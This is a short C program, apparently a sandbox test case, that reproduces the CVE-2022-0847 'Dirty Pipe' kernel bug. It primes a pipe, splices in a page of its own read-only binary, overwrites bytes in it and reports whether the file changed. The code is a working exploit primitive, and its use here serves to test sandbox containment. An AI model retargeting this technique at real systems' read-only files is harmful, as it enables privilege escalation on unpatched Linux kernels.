// attacks: 95
// expect: AC
// CVE-2022-0847: a spliced page of a read-only file is written to through the pipe. The file is its own program.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void) {
  int ends[2], fd = open("/box/main", O_RDONLY);
  char block[4096], before[16], after[16];
  if (fd < 0 || pipe(ends)) return puts("cannot begin"), 0;
  for (int left = fcntl(ends[1], F_GETPIPE_SZ); left > 0; left -= 4096) (void)!write(ends[1], block, sizeof block);
  for (int left = fcntl(ends[1], F_GETPIPE_SZ); left > 0; left -= 4096) (void)!read(ends[0], block, sizeof block);
  (void)!pread(fd, before, sizeof before, 4);
  off_t offset = 3;
  splice(fd, &offset, ends[1], 0, 1, 0);
  (void)!write(ends[1], "overwritten....", 16);
  (void)!pread(fd, after, sizeof after, 4);
  puts(memcmp(before, after, sizeof before) ? "the file has changed" : "contained");
}
